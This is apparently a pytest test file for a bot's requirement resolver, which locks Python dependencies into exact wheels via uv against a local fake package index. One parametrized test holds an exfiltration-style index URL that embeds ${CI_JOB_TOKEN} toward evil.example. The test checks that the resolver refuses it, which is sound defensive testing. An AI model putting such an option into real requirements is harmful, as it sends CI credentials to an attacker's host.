"""Requirements become a lock of exact wheels, or everything that stands in their way is told at once; uv is real."""

from __future__ import annotations

import os
import time
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from bot.domain.environments import Environment
from bot.errors import OperatorError, TryAgain
from bot.layers.lock import Lock, dump_lock, read_lock
from bot.layers.lock_key import ResolveInputs
from bot.layers.resolve import Resolved, resolve
from bot.layers.uv import fault_here
from parser.model import Problem
from parser.requirements import read_requirements
from parser.requirements.public import PYPI, PYTORCH_CPU
from parser.source import Entry, Source
from tests.layers.package_index import PackageIndex, make_certificate, served

LINUX = "manylinux_2_17_x86_64"


@pytest.fixture
def index() -> Iterator[PackageIndex]:
    with served(PackageIndex()) as found:
        yield found


class Desk:
    """Resolves requirements against an index; what was said is in `said`."""

    def __init__(self, cache: Path) -> None:
        self.variables = {"UV_CACHE_DIR": str(cache), "HOME": "/nowhere"}
        self.said: list[str] = []

    def ask(
        self,
        index: PackageIndex | None,
        requirements: str | Mapping[str, str],
        *,
        python: str = "3.12",
        platform: str = "linux/amd64",
        wheels: Path | None = None,
        build_sdists: tuple[str, ...] = (),
    ) -> Resolved | tuple[Problem, ...]:
        files = {"requirements.txt": requirements} if isinstance(requirements, str) else dict(requirements)
        source = Source(
            {path: Entry(path, "file") for path in files},
            {path: text.encode() for path, text in files.items()},
        )
        asked, problems = read_requirements(source, None)
        assert asked is not None, problems
        environment = Environment("cpu", "CPU", "python@sha256:" + "1" * 64, python)
        texts = {path: text.encode() for path, text in files.items()}
        inputs = ResolveInputs(asked, environment, platform, build_sdists, texts)
        url = index.simple if index is not None else ""
        return resolve(inputs, self.variables, self.said.append, index_url=url, wheels=wheels)

    def lock(self, index: PackageIndex | None, requirements: str | Mapping[str, str], **more: object) -> Lock:
        found = self.ask(index, requirements, **more)  # type: ignore[arg-type]  # the words of `ask`
        assert isinstance(found, Resolved), found
        assert read_lock(dump_lock(found.lock)) == found.lock
        return found.lock

    def told(
        self, index: PackageIndex | None, requirements: str | Mapping[str, str], **more: object
    ) -> tuple[Problem, ...]:
        found = self.ask(index, requirements, **more)  # type: ignore[arg-type]  # the words of `ask`
        assert not isinstance(found, Resolved), found
        return found


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return Desk(tmp_path / "cache")


def files(lock: Lock) -> list[str]:
    return [wheel.filename for wheel in lock.wheels]


def codes(problems: tuple[Problem, ...]) -> list[tuple[str, int]]:
    return [(one.code, one.place.line if one.place else 0) for one in problems]


@pytest.mark.parametrize("html", [False, True])
def test_what_is_required_and_what_it_needs_is_locked_with_hash_size_and_address(
    html: bool, index: PackageIndex, desk: Desk
) -> None:
    index.html = html
    shelf = index.add(
        "resize", "1.2", requires=["pixels>=2; python_version>'3.0'", "never; sys_platform=='win32'"]
    )
    index.add("pixels", "1.0")
    index.add("pixels", "2.5", f"cp312-cp312-{LINUX}")
    index.add("pixels", "2.5", "cp311-cp311-win_amd64")
    index.add("pixels", "3.0", "cp313-cp313-win_amd64")
    lock = desk.lock(index, "resize\n")
    assert files(lock) == [f"pixels-2.5-cp312-cp312-{LINUX}.whl", "resize-1.2-py3-none-any.whl"]
    assert lock.wheels[1].sha256 == shelf.sha256
    assert lock.wheels[1].size == len(shelf.content)
    assert lock.wheels[1].url == index.file_url("resize-1.2-py3-none-any.whl")
    assert desk.said == ["Resolving 1 requirements for Python 3.12 on linux/amd64"]


def test_the_best_of_several_wheels_is_taken_for_each_platform(index: PackageIndex, desk: Desk) -> None:
    for tag in (
        "py3-none-any",
        f"cp38-abi3-{LINUX}",
        f"cp312-cp312-{LINUX}",
        "cp312-cp312-manylinux_2_40_x86_64",
    ):
        index.add("fast", "1.0", tag)
    index.add("fast", "1.0", "cp38-abi3-manylinux2014_aarch64")
    assert files(desk.lock(index, "fast\n")) == [f"fast-1.0-cp312-cp312-{LINUX}.whl"]
    assert files(desk.lock(index, "fast\n", python="3.11")) == [f"fast-1.0-cp38-abi3-{LINUX}.whl"]
    arm = desk.lock(index, "fast\n", platform="linux/arm64")
    assert files(arm) == ["fast-1.0-cp38-abi3-manylinux2014_aarch64.whl"]
    assert arm.platform == "linux/arm64"


def test_extras_conditions_includes_constraints_and_early_versions_are_understood(
    index: PackageIndex, desk: Desk
) -> None:
    index.add("main", "1.0", extras="Provides-Extra: plot\nRequires-Dist: plots; extra == 'plot'\n")
    for version in ("1.0", "2.0", "3.0rc1"):
        index.add("plots", version)
        index.add("other", version)
    found = desk.lock(
        index,
        {
            "requirements.txt": "main[plot]\n-r more.txt\n-c limits.txt\nmissing; python_version < '3.0'\n",
            "more.txt": "other\n",
            "limits.txt": "plots<2\nnever==7\n",
        },
    )
    assert [(one.name, one.version) for one in found.wheels] == [
        ("main", "1.0"),
        ("other", "2.0"),
        ("plots", "1.0"),
    ]
    early = desk.lock(index, "other\n--pre\n")
    assert early.wheels[0].version == "3.0rc1"


def test_sizes_that_the_index_does_not_say_are_asked_for(index: PackageIndex, desk: Desk) -> None:
    index.sizes = False
    shelf = index.add("quiet", "1.0")
    assert desk.lock(index, "quiet\n").wheels[0].size == len(shelf.content)
    assert ("HEAD", "/files/quiet-1.0-py3-none-any.whl", "") in index.requests


def test_a_wheel_by_its_address_is_locked_and_its_hash_must_hold(index: PackageIndex, desk: Desk) -> None:
    shelf = index.add("direct", "1.0")
    address = index.file_url("direct-1.0-py3-none-any.whl")
    lock = desk.lock(index, f"direct @ {address}#sha256={shelf.sha256}\n")
    assert (lock.wheels[0].url, lock.wheels[0].sha256) == (address, shelf.sha256)
    hashed = f"direct @ {address} --hash=sha256:{'0' * 64}\n"
    assert codes(desk.told(index, hashed)) == [("requirement-hash-wrong", 1)]
    other = index.file_url("direct-1.0-cp27-cp27m-win32.whl")
    assert codes(desk.told(index, f"direct @ {other}\n")) == [("requirement-no-wheel", 1)]


def test_an_address_with_nothing_behind_it_is_told_with_its_line(index: PackageIndex, desk: Desk) -> None:
    index.add("plain", "1.0")
    gone = index.file_url("gone-1.0-py3-none-any.whl")
    told = desk.told(index, f"plain\ngone @ {gone}\nlost\n")
    assert codes(told) == [("requirement-unresolved", 2), ("requirement-unknown", 3)]
    assert "nothing at this address" in told[0].message


def test_a_wheel_that_is_none_is_told_in_the_resolvers_words(index: PackageIndex, desk: Desk) -> None:
    index.add("broken", "1.0").content = b"no archive"
    told = desk.told(index, f"broken @ {index.file_url('broken-1.0-py3-none-any.whl')}\n")
    assert [one.code for one in told] == ["requirement-unresolved"]
    assert str(desk.variables["UV_CACHE_DIR"]) not in told[0].message


def test_hashes_of_the_author_choose_the_wheel_and_bind_all_of_them(index: PackageIndex, desk: Desk) -> None:
    best = index.add("checked", "1.0", f"cp312-cp312-{LINUX}")
    plain = index.add("checked", "1.0", requires=["needed"])
    needed = index.add("needed", "2.0")
    both = f"checked==1.0 --hash=sha256:{plain.sha256}\nneeded==2.0 --hash=sha256:{needed.sha256}\n"
    assert files(desk.lock(index, both)) == ["checked-1.0-py3-none-any.whl", "needed-2.0-py3-none-any.whl"]
    wrong = f"checked==1.0 --hash=sha256:{'0' * 64}\nneeded==2.0 --hash=sha256:{'1' * 64}\n"
    told = desk.told(index, wrong)
    assert codes(told) == [("requirement-hash-wrong", 1), ("requirement-hash-wrong", 2)]
    assert best.sha256 in told[0].message
    index.add("checked", "2.0", requires=["needed"])
    index.packages["checked"].pop("checked-1.0-py3-none-any.whl")
    alone = f"checked==2.0 --hash=sha256:{index.packages['checked']['checked-2.0-py3-none-any.whl'].sha256}\n"
    told = desk.told(index, alone)
    assert codes(told) == [("requirement-hash", 1)]
    assert "needed 2.0" in told[0].message


def test_everything_that_cannot_be_met_is_told_at_once_with_its_line(index: PackageIndex, desk: Desk) -> None:
    index.add("requests", "2.32")
    for version in ("1.0", "1.1", "2.0"):
        index.add("versions", version)
    index.add("compiled", "1.0", f"cp38-cp38-{LINUX}")
    index.add("compiled", "1.0", "cp38-cp38-win_amd64")
    index.add("compiled", "2.0", f"cp312-cp312-{LINUX}")
    index.add("mac", "1.0", "cp312-cp312-macosx_11_0_arm64")
    index.add("older", "1.0", requires_python="<3.9")
    index.add_sources("sources", "0.9")
    index.add("pulled", "1.0", yanked=True)
    index.add("good", "1.0")
    index.add("outer", "1.0", requires=["inner==4.*"])
    index.add_sources("inner", "4.9.3")
    told = desk.told(
        index,
        "reqests==2.32\nversions==1.5\ncompiled==1.0\nmac\nolder\nsources\npulled\ngood\nouter\n"
        "git+https://example.org/thing.git#egg=thing\n",
    )
    assert codes(told) == [
        ("requirement-unknown", 1),
        ("requirement-version", 2),
        ("requirement-no-wheel", 3),
        ("requirement-no-wheel", 4),
        ("requirement-no-wheel", 5),
        ("requirement-sources", 6),
        ("requirement-version", 7),
        ("requirement-sources", 9),
        ("requirement-sources", 10),
    ]
    unknown, version, compiled, mac, older, sources, pulled, inner, thing = told
    assert unknown.hint == "Is `requests` meant?"
    assert "found: 1.0, 1.1 and 2.0" in version.message
    assert "nearest to 1.5: 1.1" in version.hint
    assert "for Python 3.8" in compiled.message
    assert compiled.hint == "Take 2.0, which has one, or choose an environment with Python 3.8."
    assert "for macOS" in mac.message
    assert "Python <3.9" in older.message
    assert "build_sdists: [sources]" in sources.hint
    assert "taken back" in pulled.message
    assert "(needed by outer) is wanted" in inner.message
    assert "build_sdists: [inner==4.9.3]" in inner.hint
    assert "build_sdists: [thing]" in thing.hint
    assert not any("/nowhere" in one.message or "--no-build" in one.message for one in told)


def test_two_requirements_at_odds_are_told_with_both_lines_and_what_each_needs(
    index: PackageIndex, desk: Desk
) -> None:
    index.add("tables", "2.2", requires=["numbers>=1.26"])
    index.add("numbers", "1.22")
    index.add("numbers", "1.26")
    index.add("bystander", "1.0")
    told = desk.told(index, "bystander\ntables==2.2\nnumbers==1.22\nlost==1\n")
    assert codes(told) == [("requirement-conflict", 2), ("requirement-unknown", 4)]
    conflict = told[0]
    assert [place.line for place in conflict.also] == [3]
    assert "tables==2.2 (line 2) and numbers==1.22 (line 3) are wanted" in conflict.message
    assert "tables needs numbers>=1.26" in conflict.message
    assert "`numbers>=1.26`" in conflict.hint


def test_nothing_of_a_requirement_is_ever_built(index: PackageIndex, desk: Desk, tmp_path: Path) -> None:
    trap = tmp_path / "ran"
    index.add_sources("trap", "1.0")
    index.add("wheeled", "1.0")
    refused = desk.told(index, "wheeled\n--no-binary wheeled\n")
    assert codes(refused) == [("requirement-sources", 1)]
    assert "--no-binary" in refused[0].message
    told = desk.told(index, f"trap\n--no-binary :all:\ntrap2 @ {index.url}/files/trap-1.0.tar.gz\n")
    assert codes(told) == [("requirement-sources", 1), ("requirement-sources", 3)]
    assert not trap.exists()
    assert not any(path.endswith(".tar.gz") for _, path, _ in index.requests)


def test_wheels_built_by_the_job_before_are_used_for_the_named_packages_only(
    index: PackageIndex, desk: Desk, tmp_path: Path
) -> None:
    elsewhere = PackageIndex()
    folder = tmp_path / "built"
    folder.mkdir()
    for name in ("sources", "repository", "intruder"):
        content = elsewhere.add(name, "1.0").content
        (folder / f"{name}-1.0-py3-none-any.whl").write_bytes(content)
    index.add_sources("sources", "1.0")
    index.add("intruder", "0.5")
    wanted = "sources==1.0\nintruder\nrepository @ git+https://example.org/repository.git@v1\n"
    lock = desk.lock(index, wanted, wheels=folder, build_sdists=("sources", "repository"))
    assert [(one.name, one.version, one.built) for one in lock.wheels] == [
        ("intruder", "0.5", False),
        ("repository", "1.0", True),
        ("sources", "1.0", True),
    ]
    assert lock.wheels[2].url == ".mlreef/wheels/sources-1.0-py3-none-any.whl"
    assert lock.wheels[2].sha256 == elsewhere.packages["sources"]["sources-1.0-py3-none-any.whl"].sha256
    told = desk.told(index, wanted, build_sdists=("sources", "repository"))
    assert codes(told) == [("requirement-sources", 1), ("requirement-sources", 3)]
    assert "mlreef-wheels" in told[1].hint


def test_a_private_index_gets_its_account_and_nobody_else_sees_it(index: PackageIndex, desk: Desk) -> None:
    secret = "s3cret/p@ss:word"
    private = PackageIndex(account=("reader", secret))
    private.add("ours", "1.0", requires=["theirs"])
    index.add("theirs", "2.0")
    index.add("ours", "9.9")
    desk.variables |= {"MLREEF_INDEX_USER": "reader", "MLREEF_INDEX_PASSWORD": secret}
    with served(private):
        host = private.url.removeprefix("http://")
        option = f"--extra-index-url http://${{MLREEF_INDEX_USER}}:${{MLREEF_INDEX_PASSWORD}}@{host}/simple\n"
        lock = desk.lock(index, f"{option}ours\n")
        # The private index's package wins, although the public one has a higher version of the same name.
        assert [(one.name, one.version) for one in lock.wheels] == [("ours", "1.0"), ("theirs", "2.0")]
        assert private.accounts_seen() == {f"reader:{secret}"} or private.accounts_seen() == {
            "",
            f"reader:{secret}",
        }
        assert index.accounts_seen() == {""}
        everything = dump_lock(lock).decode() + "".join(desk.said)
        assert "reader" not in everything
        assert "s3cret" not in everything

        desk.variables["MLREEF_INDEX_PASSWORD"] = "wrong-word-here"
        told = desk.told(index, f"{option}ours\n")
        assert [one.code for one in told] == ["index-address"]
        assert "MLREEF_INDEX_PASSWORD" in told[0].message
        assert "wrong-word-here" not in told[0].message + told[0].hint


@pytest.mark.parametrize(
    ("option", "why"),
    [
        ("--index-url https://me:${HOME}@packages.example/simple", "the variable HOME is not offered"),
        (
            "--index-url https://x:${CI_JOB_TOKEN}@evil.example/simple",
            "CI_JOB_TOKEN would be sent to evil.example",
        ),
        ("--index-url https://x:${MLREEF_INDEX_UNSET}@packages.example/", "MLREEF_INDEX_UNSET is not set"),
        ("--index-url http://packages.example/simple", "without encryption"),
        (
            "--trusted-host packages.example\n--index-url http://x:${MLREEF_INDEX_P}@packages.example/",
            "sent to packages.example in clear",
        ),
        ("--index-url file:///etc", "no address"),
        ("--index-url ssh://packages.example/simple", "no address"),
        ("--extra-index-url https://[::1/simple", "no address"),
    ],
)
def test_an_address_that_could_carry_secrets_away_is_refused_before_anybody_is_asked(
    option: str, why: str, desk: Desk
) -> None:
    desk.variables |= {
        "CI_JOB_TOKEN": "job-token-word",
        "CI_SERVER_HOST": "gitlab.example",
        "MLREEF_INDEX_P": "pp",
    }
    told = desk.told(None, f"{option}\nnumpy\n")
    assert [one.code for one in told] == ["index-address"]
    assert why in told[0].message
    assert "job-token-word" not in str(told)


def test_lock_files_of_other_tools_bind_versions_and_hashes(index: PackageIndex, desk: Desk) -> None:
    good = index.add("locked", "1.0", requires=["never-asked-for"])
    index.add("locked", "2.0")
    lock_file = (
        '[[package]]\nname = "locked"\nversion = "1.0"\noptional = false\ngroups = ["main"]\n'
        'files = [{{file = "locked-1.0-py3-none-any.whl", hash = "sha256:{}"}}]\n'
    )
    lock = desk.lock(index, {"poetry.lock": lock_file.format(good.sha256)})
    assert [(one.name, one.version) for one in lock.wheels] == [("locked", "1.0")]
    told = desk.told(index, {"poetry.lock": lock_file.format("0" * 64)})
    assert [one.code for one in told] == ["requirement-hash-wrong"]


def test_a_uv_lock_takes_each_package_from_the_index_it_names(index: PackageIndex, desk: Desk) -> None:
    private = PackageIndex()
    ours = private.add("ours", "1.0")
    index.add("ours", "1.0", size=10)
    theirs = index.add("theirs", "2.0")
    with served(private):
        text = (
            '[[package]]\nname = "project"\nversion = "0"\nsource = { editable = "." }\n'
            'dependencies = [{ name = "ours" }, { name = "theirs" }]\n'
            f'[[package]]\nname = "ours"\nversion = "1.0"\nsource = {{ registry = "{private.simple}" }}\n'
            f'wheels = [{{ url = "https://x.example/x.whl", hash = "sha256:{ours.sha256}" }}]\n'
            '[[package]]\nname = "theirs"\nversion = "2.0"\nsource = { registry = "' + PYPI + '" }\n'
            f'wheels = [{{ url = "https://x.example/y.whl", hash = "sha256:{theirs.sha256}" }}]\n'
        )
        lock = desk.lock(index, {"uv.lock": text})
    assert [(one.name, one.sha256) for one in lock.wheels] == [
        ("ours", ours.sha256),
        ("theirs", theirs.sha256),
    ]


def test_no_requirements_are_an_empty_lock_and_nobody_is_asked(index: PackageIndex, desk: Desk) -> None:
    assert desk.lock(index, "# nothing\n").wheels == ()
    assert index.requests == []


def test_requirements_of_other_systems_alone_are_an_empty_lock(index: PackageIndex, desk: Desk) -> None:
    assert desk.lock(index, "pywin32; sys_platform == 'win32'\n").wheels == ()


def test_130_requirements_are_resolved_in_seconds(index: PackageIndex, desk: Desk) -> None:
    names = [f"package-{number}" for number in range(130)]
    for name in names:
        index.add(name, "1.0")
    started = time.monotonic()
    lock = desk.lock(index, "".join(f"{name}\n" for name in names))
    assert len(lock.wheels) == 130
    assert time.monotonic() - started < 30


def test_an_index_by_links_alone_is_enough(index: PackageIndex, desk: Desk) -> None:
    index.html = True
    index.add("linked", "1.0")
    found = desk.lock(None, f"--no-index\n--find-links {index.simple}/linked/\nlinked\n")
    assert [one.name for one in found.wheels] == ["linked"]
    told = desk.told(None, f"--no-index\n--find-links {index.simple}/linked/\nlinked==2\nother\n")
    assert codes(told) == [("requirement-version", 3), ("requirement-unknown", 4)]


def test_the_same_inputs_give_the_same_lock(index: PackageIndex, desk: Desk) -> None:
    for name in ("one", "two"):
        index.add(name, "1.0")
    first = dump_lock(desk.lock(index, "two\none\n"))
    assert dump_lock(desk.lock(index, "# another comment\none\ntwo\n")) == first


def test_an_index_that_is_away_is_nobodys_fault(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    with served(PackageIndex()) as gone:
        pass
    desk.variables["UV_HTTP_RETRIES"] = "0"
    with pytest.raises(TryAgain, match="cannot be reached"):
        desk.ask(gone, "numpy\n")


def test_a_machine_that_takes_no_files_is_the_operators(index: PackageIndex, desk: Desk) -> None:
    index.add("plain", "1.0")
    desk.variables["UV_CACHE_DIR"] = "/dev/null/uv"
    with pytest.raises(OperatorError, match="cannot write its files") as told:
        desk.ask(index, "plain\n")
    assert "UV_CACHE_DIR" in told.value.hint


def test_a_full_disk_is_told_from_an_index_that_does_not_answer() -> None:
    full = "  cause: failed to write to file `/uv/info.py`: No space left on device (os error 28)"
    assert "(No space left on device)" in str(fault_here(full))
    assert fault_here("tcp connect error: Connection refused (os error 111)") is None


def test_an_index_of_the_operator_that_wants_an_account_is_the_operators(
    index: PackageIndex, desk: Desk
) -> None:
    index.account = ("operator", "password")
    with pytest.raises(OperatorError, match="does not let the bot in"):
        desk.ask(index, "numpy\n")


def test_files_behind_another_door_are_told_with_its_name(index: PackageIndex, desk: Desk) -> None:
    store = PackageIndex(account=("somebody", "else"))
    index.sizes = False
    index.add("kept", "1.0")
    with served(store):
        index.moved_to = store.url.replace("127.0.0.1", "localhost")
        host = index.moved_to.removeprefix("http://")
        told = desk.told(index, "kept @ " + index.file_url("kept-1.0-py3-none-any.whl") + "\n")
    assert [one.code for one in told] == ["index-address"]
    assert f"{host} wants an account (status 401)" in told[0].message


def test_what_the_machine_is_set_to_has_no_part_in_it(
    index: PackageIndex, desk: Desk, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    index.add("plain", "1.0")
    for name in ("UV_INDEX", "UV_EXTRA_INDEX_URL", "UV_FIND_LINKS", "UV_CONSTRAINT", "PIP_FIND_LINKS"):
        monkeypatch.setenv(name, str(tmp_path / "nothing"))
    monkeypatch.chdir(tmp_path)
    (tmp_path / "uv.toml").write_text("this is no setting")
    assert [one.name for one in desk.lock(index, "plain\n").wheels] == ["plain"]
    assert "UV_INDEX" in os.environ


def test_an_index_whose_certificate_nobody_vouches_for_is_the_operators(desk: Desk, tmp_path: Path) -> None:
    _, context = make_certificate(tmp_path)
    secure = PackageIndex()
    secure.add("sealed", "1.0")
    desk.variables["UV_HTTP_RETRIES"] = "0"
    with served(secure, context), pytest.raises(OperatorError, match="is not trusted"):
        desk.ask(secure, "sealed\n")


def test_cuda_where_nothing_can_use_it_is_pointed_out_with_its_size(index: PackageIndex, desk: Desk) -> None:
    index.add("torch", "2.9.0", requires=["nvidia-cublas-cu12"])
    index.add("nvidia-cublas-cu12", "12.4", size=2_000_000)
    resolved = desk.ask(index, "torch==2.9.0\n")
    assert isinstance(resolved, Resolved)
    (warning,) = resolved.warnings
    assert warning.message.startswith("What is required brings 2.0 MB of CUDA libraries")
    assert PYTORCH_CPU in warning.hint
